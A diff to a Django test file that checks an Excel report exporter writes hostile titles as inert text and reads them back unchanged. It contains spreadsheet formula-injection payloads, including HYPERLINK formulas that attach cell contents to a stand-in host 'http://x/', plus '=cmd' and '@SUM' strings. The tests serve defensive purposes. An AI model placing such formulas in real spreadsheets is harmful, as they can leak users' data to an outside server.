@@ -11,20 +11,11 @@ from lantoa.reporting.excel.layout import LISTS_SHEET, SHEET
 from lantoa.reporting.excel.template import board_workbook, unit_template
 from lantoa.reporting.models import Activity
 from lantoa.reporting.services import ActivityInput, activity_record
+from tests.core.cells_support import HOSTILE_TEXTS, inert_xlsx_cells, typed_texts
 from tests.reporting.excel_support import JUNE, column, edit, run_import
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = [
-    '=HYPERLINK("http://x/"&B2,"x")',
-    "\t=1+1",
-    "\n=cmd",
-    " =1",
-    "+1",
-    "-1+1",
-    "@SUM(A1)",
-    "#N/A",
-]
 UNIT_NAME = '=HYPERLINK("http://x/"&A1,"Đảng ủy")'
 TASK_TEXT = '=HYPERLINK("http://x/","nhiệm vụ")'
 
@@ -37,7 +28,7 @@ def hostile(kl51_campaign):
     unit.refresh_from_db()
     task = kl51_campaign.tasks.filter(assignments__unit=unit).order_by("position").first()
     type(task).objects.filter(pk=task.pk).update(ref="", text=TASK_TEXT)
-    for title in HOSTILE:
+    for title in HOSTILE_TEXTS:
         activity_record(
             campaign=kl51_campaign,
             unit=unit,
@@ -54,11 +45,6 @@ def hostile(kl51_campaign):
     return unit
 
 
-def _cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
-    book = openpyxl.load_workbook(io.BytesIO(data))
-    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]
-
-
 def _templates(campaign, unit) -> dict[str, bytes]:
     return {
         "unit": unit_template(campaign=campaign, unit=unit),
@@ -68,22 +54,20 @@ def _templates(campaign, unit) -> dict[str, bytes]:
 
 def test_it_writes_no_formula_anywhere_in_either_template(kl51_campaign, hostile):
     for kind, data in _templates(kl51_campaign, hostile).items():
-        cells = _cells(data)
-        formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
-        assert formulas == [], kind
-        assert not any(cell.data_type == "e" for cell in cells), kind
+        cells = inert_xlsx_cells(data)
         # The hostile texts are all there, exactly as stored, flagged as typed text.
-        texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
-        for text in {title.strip() for title in HOSTILE} | {TASK_TEXT}:
-            assert texts[text].data_type == "s" and texts[text].quotePrefix, (kind, text)
-        assert any(UNIT_NAME in value for value in texts), kind
+        expected = {title.strip() for title in HOSTILE_TEXTS} | {TASK_TEXT}
+        assert set(typed_texts(cells, list(expected))) == expected, kind
+        assert typed_texts(cells, [UNIT_NAME]), kind
 
 
 def test_it_keeps_titles_as_typed_text_in_the_activities_sheet(kl51_campaign, hostile):
     for kind, data in _templates(kl51_campaign, hostile).items():
         sheet = openpyxl.load_workbook(io.BytesIO(data))[SHEET]
-        titles = [sheet.cell(row, column("title")) for row in range(2, 2 + len(HOSTILE))]
-        assert sorted(cell.value for cell in titles) == sorted(t.strip() for t in HOSTILE), kind
+        titles = [sheet.cell(row, column("title")) for row in range(2, 2 + len(HOSTILE_TEXTS))]
+        assert sorted(cell.value for cell in titles) == sorted(t.strip() for t in HOSTILE_TEXTS), (
+            kind
+        )
         assert all(cell.data_type == "s" for cell in titles), kind
         task = sheet.cell(2, column("task"))
         assert (task.value, task.data_type) == (TASK_TEXT, "s"), kind
@@ -112,7 +96,7 @@ def test_it_reads_the_hostile_texts_back_unchanged(
         assert upload.status == "preview", upload.message
         counts = upload.plan["counts"]
         assert (counts["changed"], counts["new"], counts["errors"]) == (0, 0, 0), upload.plan
-        assert counts["unchanged"] == len(HOSTILE)
+        assert counts["unchanged"] == len(HOSTILE_TEXTS)
 
 
 def test_it_changes_only_the_edited_cell_of_a_hostile_row(kl51_campaign, hostile, commune_reporter):
@@ -120,5 +104,5 @@ def test_it_changes_only_the_edited_cell_of_a_hostile_row(kl51_campaign, hostile
     upload = run_import(kl51_campaign, commune_reporter, edit(data, {2: {"sessions": 3}}))
     assert upload.status == "applied", upload.message
     titles = set(Activity.objects.values_list("title", flat=True))
-    assert titles == {title.strip() for title in HOSTILE}
+    assert titles == {title.strip() for title in HOSTILE_TEXTS}
     assert sorted(Activity.objects.values_list("sessions", flat=True)) == [1] * 7 + [3]
